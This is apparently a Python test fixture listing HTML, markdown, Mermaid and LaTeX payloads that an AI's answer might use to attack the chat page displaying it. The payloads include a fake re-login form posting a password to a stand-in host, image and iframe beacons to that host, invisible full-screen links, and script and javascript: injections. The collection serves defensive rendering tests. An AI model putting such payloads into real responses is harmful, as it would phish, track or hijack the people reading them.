"""What an answer may try to do to the page that shows it."""

from __future__ import annotations

ELSEWHERE = "http://198.51.100.7"
PAYLOADS = [
    f'<a href="{ELSEWHERE}/?words" style="position:fixed;inset:0;opacity:0;z-index:999">x</a>',
    f'<form action="{ELSEWHERE}/steal"><input name="password" autofocus><button>Sign in again</button></form>',
    '<dialog open style="position:fixed;top:0">Your session ended. <button>Sign in</button></dialog>',
    '<div id="od-marks" data-marks="[]">fake</div><div id="od-said" class="od-note">Saved.</div>',
    '<div class="od-turn"><button data-kind="delete">x</button></div>',
    f'<img src="{ELSEWHERE}/leak.png" onerror="window.pwned=1"><svg onload="window.pwned=1"></svg>',
    f'![x]({ELSEWHERE}/leak.png) ![y][1]\n\n[1]: {ELSEWHERE}/leak.png "t"',
    "<script>window.pwned=1</script><style>body{display:none}</style><!-- hidden --><![CDATA[x]]>",
    f'<iframe src="{ELSEWHERE}"></iframe><object data="x"></object><base href="{ELSEWHERE}"><meta charset="x">',
    "[click](javascript:window.pwned=1) [data](data:text/html,<script>1</script>)",
    "```mermaid\ngraph TD; A[<b style='position:fixed'>x</b>]\n```",
    "<details open><summary>x</summary><textarea autofocus></textarea></details><marquee>x</marquee>",
    r"$\href{javascript:window.pwned=1}{x}$ $$\htmlId{od-marks}{x}$$ \(\rule{9999em}{9999em}\)",
    "x\n<\tb>y &lt;b&gt; &#60;b&#62;",
]
